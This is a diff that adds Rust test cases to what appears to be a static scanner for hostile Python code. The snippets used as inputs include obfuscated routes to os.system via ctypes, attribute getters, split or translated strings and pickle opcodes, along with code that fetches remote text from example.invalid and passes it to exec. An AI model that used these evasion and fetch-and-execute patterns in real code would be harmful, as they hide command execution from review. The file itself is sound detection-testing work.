@@ -457,3 +457,134 @@ fn test_modules_promote_only_direct_calls() {
     let r = scan_file(&module, BudgetLimits::default());
     assert_eq!(worst(&r, SHELL), Some(Severity::High), "{:#?}", summary(&r));
 }
+
+/// A command string without `shell=True` is a program: POSIX runs the string as one path and
+/// Windows hands it to `CreateProcess`; it is a shell command only when it starts a shell.
+#[test]
+fn string_commands_without_a_shell_are_programs() {
+    let benign = [
+        ("nvidia-smi", "import subprocess\nsubprocess.check_output(\"nvidia-smi\")\n"),
+        ("arch", "import subprocess\nout = subprocess.run(\"arch\", capture_output=True)\n"),
+        ("oslevel-var", "import subprocess\ncmd = 'oslevel'\nsubprocess.check_output(cmd)\n"),
+        ("words", "import subprocess\nsubprocess.check_output('nvidia-smi -L')\n"),
+        ("concat", "import subprocess, sys\nsubprocess.call('git describe ' + sys.argv[0])\n"),
+        ("fstring", "import subprocess\nv = 1\nsubprocess.Popen(f'nvcc --version {v}')\n"),
+        ("argv-concat", "import subprocess\nmain_cmd = ['python', '-m', 'x']\nsubprocess.run(main_cmd + ['--y'])\n"),
+    ];
+    let mut failures = Vec::new();
+    for (case, src) in benign {
+        let r = scan("mod.py", src);
+        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
+            failures.push(format!("{case}: {:#?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+    let shell = [
+        ("getoutput-one-word", "import subprocess\nsubprocess.getoutput('id')\n"),
+        ("string-sh-c", "import subprocess\nsubprocess.run(\"sh -c 'echo airlock-test'\")\n"),
+        ("string-cmd-c", "import subprocess\nsubprocess.Popen('cmd.exe /c echo airlock-test')\n"),
+        ("shell-true", "import subprocess\nsubprocess.check_output('nvidia-smi', shell=True)\n"),
+        ("loop-subprocess-shell", "import asyncio\nloop = asyncio.new_event_loop()\nloop.run_until_complete(loop.subprocess_shell(asyncio.SubprocessProtocol, 'echo airlock-test'))\n"),
+    ];
+    let cases: Vec<_> = shell
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, Severity::High))
+        .collect();
+    check(&cases);
+}
+
+/// Tester round s5: sinks reached through objects, subscripts and attribute getters, bindings
+/// made by unpacking, defaults, instances and `staticmethod`, code joined or translated,
+/// downloaded code held in a variable, and the protocol methods of instances made at load.
+#[test]
+fn sinks_and_bindings_of_tester_s5_are_followed() {
+    use Severity::{Critical, High};
+    let shell = [
+        ("ctypes-subscript", "import ctypes\nctypes.CDLL(None)['system'](b'echo airlock-test')\n"),
+        ("ctypes-cdll-index", "import ctypes\nctypes.cdll['libc.so.6'].system(b'echo airlock-test')\n"),
+        ("ctypes-built-key", "import ctypes\nlibc = ctypes.CDLL(None)\nf = libc['sys' + 'tem']\nf(b'echo airlock-test')\n"),
+        ("attrgetter", "import os\nfrom operator import attrgetter\nattrgetter('sys' + 'tem')(os)('echo airlock-test')\n"),
+        ("getattribute", "import os\nos.__getattribute__('sys' + 'tem')('echo airlock-test')\n"),
+        ("type-getattribute", "import os\nf = type.__getattribute__(os, 'sy' + 'stem')\nf('echo airlock-test')\n"),
+        ("trace", "import trace\ntrace.Trace().run(\"__import__('os').system('echo airlock-test')\")\n"),
+        ("bdb-var", "import bdb\nb = bdb.Bdb()\nb.run(\"__import__('os').system('echo airlock-test')\")\n"),
+        ("doctest", "import doctest\ndoctest.run_docstring_examples(\">>> __import__('os').system('echo airlock-test')\", {})\n"),
+        ("interpreter-var", "import code\ni = code.InteractiveInterpreter()\ni.runsource(\"__import__('os').system('echo airlock-test')\")\n"),
+        ("star-unpack", "import os\n*_, f = [1, os.system]\nf('echo airlock-test')\n"),
+        ("nested-unpack", "import os\n(a, (b, f)) = (1, (2, os.system))\nf('echo airlock-test')\n"),
+        ("for-tuple", "import os\nfor n, f in [('a', print), ('b', os.system)]:\n    f('echo airlock-test')\n"),
+        ("instance-attr", "import os\nclass K:\n    def __init__(self):\n        self.r = os.system\n    def go(self):\n        self.r('echo airlock-test')\nK().r('echo airlock-test')\n"),
+        ("default-arg", "import os\ndef g(f=os.system):\n    f('echo airlock-test')\ng()\n"),
+        ("staticmethod", "import os\nclass K:\n    r = staticmethod(os.system)\nK.r('echo airlock-test')\n"),
+        ("class-getitem", "import os\nclass K:\n    def __class_getitem__(cls, x):\n        os.system('echo airlock-test')\nK[int]\n"),
+        ("del", "import os\nclass K:\n    def __del__(self):\n        os.system('echo airlock-test')\nk = K()\n"),
+        ("iter", "import os\nclass K:\n    def __iter__(self):\n        os.system('echo airlock-test')\n        return iter([])\nfor _ in K():\n    pass\n"),
+    ];
+    let mut cases: Vec<_> = shell
+        .iter()
+        .map(|(n, s)| (*n, s.to_string(), SHELL, High))
+        .collect();
+    cases.extend([
+        (
+            "unpickler-var",
+            "import io, pickle\nu = pickle.Unpickler(io.BytesIO(b\"cos\\nsystem\\n(S'echo airlock-test'\\ntR.\"))\nu.load()\n".to_string(),
+            "pickle-dangerous-call",
+            Critical,
+        ),
+        (
+            "requests-var",
+            "import requests\nr = requests.get('https://example.invalid/p.py')\nexec(r.text)\n".into(),
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "socket-recv",
+            "import socket\ns = socket.create_connection(('example.invalid', 1))\nexec(s.recv(4096))\n".into(),
+            "python-exec-computed",
+            Critical,
+        ),
+        (
+            "join-variable",
+            "p = ['__imp', 'ort__(\"os\").sys', 'tem(\"echo airlock-test\")']\nexec(''.join(p))\n".into(),
+            SHELL,
+            High,
+        ),
+        (
+            "join-generator",
+            "exec(''.join(x for x in ['__import__(\"os\").', 'system(\"echo airlock-test\")']))\n".into(),
+            SHELL,
+            High,
+        ),
+        (
+            "translate",
+            "exec('__jmport__(\"os\").system(\"echo airlock-test\")'.translate({ord('j'): 'i'}))\n".into(),
+            SHELL,
+            High,
+        ),
+        (
+            "maketrans",
+            "exec('__jmport__(\"os\").system(\"echo airlock-test\")'.translate(str.maketrans('j', 'i')))\n".into(),
+            "python-exec-computed",
+            High,
+        ),
+    ]);
+    check(&cases);
+}
+
+/// Whole lines joined by line ends read as written, and an attribute that a chat prompt calls
+/// `system` is not `os.system`.
+#[test]
+fn joined_lines_and_prompt_attributes_are_not_reported() {
+    let cases = [
+        ("lines", "_LINES = [\n    'def _identity(x):',\n    '    return x',\n]\nexec('\\n'.join(_LINES))\n"),
+        ("self-system-prompt", "class Chat:\n    system: str = ''\n    def prompt(self):\n        return [self.system]\n"),
+    ];
+    let mut failures = Vec::new();
+    for (case, src) in cases {
+        let r = scan("mod.py", src);
+        if r.findings.iter().any(|f| f.severity >= Severity::Medium) {
+            failures.push(format!("{case}: {:#?}", summary(&r)));
+        }
+    }
+    assert!(failures.is_empty(), "{}", failures.join("\n"));
+}
